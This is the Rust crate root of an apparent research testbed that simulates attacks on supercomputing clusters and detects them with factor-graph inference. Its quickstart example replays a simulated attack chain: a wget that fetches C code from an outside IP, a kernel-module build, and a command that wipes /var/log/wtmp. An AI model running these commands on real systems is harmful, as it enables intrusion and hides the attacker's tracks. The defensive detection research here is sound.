//! # attack-tagger — security testbed for preempting attacks against
//! supercomputing infrastructure
//!
//! Umbrella crate for the reproduction of *Security Testbed for Preempting
//! Attacks against Supercomputing Infrastructure* (Cao, Kalbarczyk, Iyer —
//! SC 2024 / arXiv:2409.09602). It re-exports every subsystem crate:
//!
//! | module | crate | role |
//! |---|---|---|
//! | [`simnet`] | `simnet` | discrete-event network/cluster substrate |
//! | [`telemetry`] | `telemetry` | Zeek/osquery/auditd-like monitors |
//! | [`alertlib`] | `alertlib` | taxonomy, symbolization, filtering, annotation |
//! | [`factorgraph`] | `factorgraph` | factors, BP, chain inference, learning |
//! | [`detect`] | `detect` | AttackTagger + baselines + metrics |
//! | [`mining`] | `mining` | Jaccard / LCS / timing / criticality analytics |
//! | [`honeynet`] | `honeynet` | VRT, containers, vulnerable services, isolation |
//! | [`bhr`] | `bhr` | Black Hole Router table/API/policy |
//! | [`scenario`] | `scenario` | incident & traffic generators, ransomware script |
//! | [`vizgraph`] | `vizgraph` | Fig. 1 graph + Yifan Hu layout + exports |
//! | [`testbed`] | `testbed` | the end-to-end ATTACKTAGGER pipeline |
//!
//! See `DESIGN.md` for the system inventory and `EXPERIMENTS.md` for the
//! per-figure/table reproduction index. The `examples/` directory contains
//! runnable walkthroughs (`quickstart`, `ransomware_replay`,
//! `incident_mining`, `honeynet_blocking`, `visualize_attacks`).
//!
//! ## Quickstart
//! ```
//! use attack_tagger::prelude::*;
//!
//! // Build the testbed and replay a short attack.
//! let mut tb = Testbed::new(TestbedConfig::default());
//! let start = tb.config().start;
//! let host = simnet::topology::HostId(0);
//! for (i, cmd) in [
//!     "wget http://64.215.4.5/abs.c",
//!     "make -C /lib/modules/4.4/build modules",
//!     "echo 0>/var/log/wtmp",
//! ]
//! .iter()
//! .enumerate()
//! {
//!     let t = start + SimDuration::from_mins(i as u64 + 1);
//!     tb.schedule(vec![(
//!         t,
//!         Action::Exec(ExecAction {
//!             host,
//!             user: "eve".into(),
//!             pid: 100 + i as u32,
//!             ppid: 1,
//!             exe: "/bin/sh".into(),
//!             cmdline: cmd.to_string(),
//!         }),
//!     )]);
//! }
//! let report = tb.run();
//! assert_eq!(report.detections, 1, "the S1 chain is preempted");
//! ```

pub use alertlib;
pub use bhr;
pub use detect;
pub use factorgraph;
pub use honeynet;
pub use mining;
pub use scenario;
pub use simnet;
pub use telemetry;
pub use testbed;
pub use vizgraph;

/// The most commonly used types across the workspace.
pub mod prelude {
    pub use alertlib::{Alert, AlertKind, Entity, Incident, IncidentStore, ScanFilter, Symbolizer};
    pub use bhr::{BhrFilter, BhrHandle};
    pub use detect::{AttackTagger, CriticalOnlyDetector, RuleBasedDetector, Stage, TaggerConfig};
    pub use factorgraph::{ChainLearner, ChainModel, Factor, FactorGraph};
    pub use honeynet::{HoneynetDeployment, PostgresEmulator, SnapshotRepo};
    pub use mining::{Cdf, CommonPattern, MinerConfig};
    pub use scenario::{
        Campaign, CampaignConfig, LongitudinalConfig, MutationConfig, RansomwareConfig,
    };
    pub use simnet::intern::SymScope;
    pub use simnet::prelude::{
        Action, Cidr, Engine, ExecAction, Flow, FlowId, SimDuration, SimRng, SimTime, Topology,
    };
    pub use telemetry::{LogRecord, MonitorHub, ZeekMonitor};
    pub use testbed::{
        BuiltPipeline, CampaignRun, EvalReport, ExecutorKind, PipelineBuilder, PipelineTuning,
        RunReport, StreamReport, Testbed, TestbedConfig,
    };
    pub use vizgraph::{Graph, LayoutConfig};
}
